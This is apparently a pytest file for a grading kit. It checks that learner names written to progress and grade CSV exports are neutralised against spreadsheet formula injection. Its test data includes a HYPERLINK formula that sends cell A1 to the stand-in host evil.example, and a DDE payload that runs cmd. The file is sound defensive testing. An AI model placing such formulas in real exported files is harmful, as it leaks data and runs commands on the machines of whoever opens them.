"""CSV injection: a name that a spreadsheet would run as a formula reaches no CSV the kit
writes as a formula (progress --csv, kit export's grades.csv): cells that start with =, +, -
or @ get a single quote in front, as OWASP recommends; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest

from grader import identity
from grader.course import csv_safe
from tests.test_course_autograde import autograde, instructor_kit
from tests.test_course_submit import Course, learner_folder

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-1.5", "-1.5"),  # a number stays a number
        (-2, "-2"),
        (0.25, "0.25"),
        ("+3", "+3"),
        ("ada", "ada"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_is_neutralised_unless_it_is_a_number(value, written):
    assert csv_safe.cell(value) == written


def dangerous(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would read as a formula: they start with a trigger and are not a
    number."""
    found = []
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Course:
    """Members named like formulas, and a folder made by hand under such a name."""
    tmp = tmp_path_factory.mktemp("csv")
    course = Course(tmp, kit_root=instructor_kit(tmp))
    for n, name in enumerate(NAMES):
        work = learner_folder(tmp / f"w{n}", solved=["sgd"])
        done = course.kit("submit", "--exercises", str(work), f"--learner={name}")
        assert done.returncode == 0, done.stdout + done.stderr
    # A submission put into submitted/ by hand, under a folder name kit submit never writes.
    (real,) = course.submissions(identity.folder_name(FORMULA))
    forged = course.root / "submitted" / "=1+1" / real.name
    shutil.copytree(real, forged)
    record = json.loads((forged / "submission.json").read_text())
    record["learner"] = "=1+1"
    (forged / "submission.json").chmod(0o644)
    (forged / "submission.json").write_text(json.dumps(record))
    course.first_run = autograde(course, ok=False)
    return course


def test_formula_names_are_kept_for_display_and_filed_safely(graded):
    out = graded.first_run.stdout
    assert graded.first_run.returncode == 1, out  # the hand-made folder, reported once
    assert "'=1+1' is not a learner folder that kit submit writes" in out
    for name in NAMES:
        folder = identity.folder_name(name)
        assert not folder.startswith(TRIGGERS) and graded.submissions(folder)


def test_the_progress_csv_holds_no_formula(graded, tmp_path):
    target = tmp_path / "progress.csv"
    run = graded.kit("progress", "--csv", str(target))
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(target.open(newline="", encoding="utf-8")))
    assert dangerous(rows) == []
    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in NAMES if not _number(name)} <= names, names
    learners = {row[0] for row in rows[1:]}
    assert "'=1+1" in learners  # the hand-made folder, shown with its finding, as text
    # Numbers stay numbers: every score cell parses as one.
    header = rows[0]
    scores = [i for i, title in enumerate(header) if "(of " in title]
    assert all(float(row[i]) >= 0 for row in rows[1:] for i in scores)


def test_kit_exports_grades_csv_holds_no_formula(graded, tmp_path):
    target = tmp_path / "grades.csv"
    run = graded.kit("export", "--to", str(target))
    assert run.returncode == 0, run.stderr
    text = target.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert dangerous(rows) == []
    header = rows[0]
    last = header.index("last_name")
    assert "'" + FORMULA in {row[last] for row in rows[1:]}  # whole, in its own cell
    assert all(len(row) == len(header) for row in rows)  # the formula's comma stays inside
    for column in ("raw_score", "score", "max_score"):
        i = header.index(column)
        assert all(float(row[i]) >= 0 for row in rows[1:])


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
